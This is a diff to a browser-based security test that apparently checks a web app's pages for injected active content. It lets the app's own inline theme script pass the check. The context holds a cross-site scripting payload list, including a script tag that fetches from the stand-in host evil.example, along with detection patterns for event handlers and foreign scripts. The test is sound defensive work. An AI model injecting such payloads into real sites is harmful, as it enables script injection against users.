@@ -14,10 +14,13 @@ from playwright.sync_api import Page, expect
 
 from media_made import START_NS
 from server_process import ServerProcess
+from spanwise_server.resources import resource_dir
 
 pytestmark = pytest.mark.browser
 
 EVIL = "evil.example"
+#: The one script that stands in a page by our own doing.
+OURS = (resource_dir("web") / "static/js/theme.js").read_text()
 #: Ways into a page: elements, attributes, addresses, templates, styles, Markdown, odd characters.
 PAYLOADS = (
     "<script>fetch('//evil.example/1')</script>",
@@ -175,7 +178,7 @@ class Watch:
     def look(self) -> None:
         """Fail where the page shown now holds what could act; the path of a step's page is its name, on this server."""
         acting = self._page.evaluate(
-            """() => [...document.querySelectorAll('*')].flatMap(element => {
+            """(ours) => [...document.querySelectorAll('*')].flatMap(element => {
                 const found = [...element.attributes].filter(({name, value}) => /^on/i.test(name) ||
                   /^(data-)?hx-on/i.test(name) ||
                   (/^(href|src|action|formaction|data|xlink:href|(data-)?hx-(get|post))$/i.test(name)
@@ -184,10 +187,12 @@ class Watch:
                         && /evil\\.example/.test(value.split('?')[0])))) ||
                   (name === 'style' && /url\\(/i.test(value)));
                 const bad = /^(IFRAME|OBJECT|EMBED|BASE|MATH|FRAME)$/i.test(element.tagName)
-                  || (element.tagName === 'SCRIPT' && !element.src.startsWith(location.origin + '/static/'));
+                  || (element.tagName === 'SCRIPT' && !element.src.startsWith(location.origin + '/static/')
+                    && !(element.parentNode === document.head && element.textContent === ours));
                 const said = found.map(({name, value}) => `${element.tagName} ${name}=${value}`);
                 return [...said, ...(bad ? [element.outerHTML] : [])];
-            })"""
+            })""",
+            OURS,
         )
         assert acting == []
         assert self.seen == []
